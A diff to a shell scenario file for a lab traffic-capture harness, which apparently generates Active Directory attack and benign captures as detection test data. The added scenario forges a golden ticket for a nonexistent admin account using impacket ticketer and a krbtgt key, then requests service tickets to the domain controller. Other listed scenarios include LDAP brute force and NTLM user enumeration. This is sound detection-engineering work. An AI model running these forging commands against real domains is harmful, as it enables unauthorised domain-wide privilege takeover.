@@ -1,13 +1,13 @@
 # Extra scenarios for ../shared/lab/make-captures.sh, recorded into testdata/lab-extra/ by
 #   sudo ../shared/lab/make-captures.sh up
 #   sudo env VARIANT_FILE=$PWD/testdata/lab-extra/scenarios.sh \
-#        ONLY="honeytoken_ldap_query honeytoken_samr_query ldap_bind_bruteforce ntlm_user_enum benign_directory_lookups" \
+#        ONLY="honeytoken_ldap_query honeytoken_samr_query ldap_bind_bruteforce ntlm_user_enum benign_directory_lookups golden_ticket_ghost" \
 #        ../shared/lab/make-captures.sh run testdata/lab-extra
 #   sudo ../shared/lab/make-captures.sh down
 # Sourced by the lab script after its own definitions: it uses the lab's framework (cap_begin,
 # on, expect, cap_end) and its accounts; the pass parameters are the main pass's.
 
-SCEN_LIST="$SCEN_LIST honeytoken_ldap_query honeytoken_samr_query ldap_bind_bruteforce ntlm_user_enum benign_directory_lookups"
+SCEN_LIST="$SCEN_LIST honeytoken_ldap_query honeytoken_samr_query ldap_bind_bruteforce ntlm_user_enum benign_directory_lookups golden_ticket_ghost"
 
 sc_honeytoken_ldap_query() {
   cap_begin honeytoken_ldap_query attack T1087.002 "$ATK_IP" "$HONEY_USER" \
@@ -75,5 +75,19 @@ sc_benign_directory_lookups() {
   on ws -- ldapwhoami -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS"
   expect 'ldap.protocolOp==3' 2
   expect 'samr' 1
+  cap_end
+}
+
+sc_golden_ticket_ghost() {
+  krbtgt_keys
+  local sid forged=ghost_admin rid=500; sid=$(cat "$WORK/domain.sid")
+  cap_begin golden_ticket_ghost attack T1558.001 "$ATK_IP" "$forged (no such account), cifs/$DCFQDN, ldap/$DCFQDN" \
+    "Golden ticket for an account that does not exist: a TGT for $forged (RID $rid, Domain Admins etc. in the PAC) forged offline with impacket ticketer from the krbtgt AES key, then used for service tickets with no AS exchange."
+  on atk -- "$VPY" "$IMP/ticketer.py" -aesKey "$(cat "$WORK/krbtgt.aes")" -domain-sid "$sid" -domain "$DNSDOM" -user-id "$rid" -groups 512,513,518,519,520 "$forged"
+  cp -f "$WORK/tmp/$forged.ccache" "$WORK/cc/atk-golden" 2>/dev/null
+  on atk -- "$VPY" "$WORK/tools/ccache_kvno.py" "$WORK/cc/atk-golden" "$(cat "$WORK/krbtgt.kvno")"
+  EXTRA_ENV=$(cc atk-golden) on atk -- kvno "cifs/$DCFQDN@$REALM" "ldap/$DCFQDN@$REALM"
+  expect "kerberos.msg_type==12 && ip.src==$ATK_IP"
+  expect_none 'kerberos.msg_type==10'
   cap_end
 }
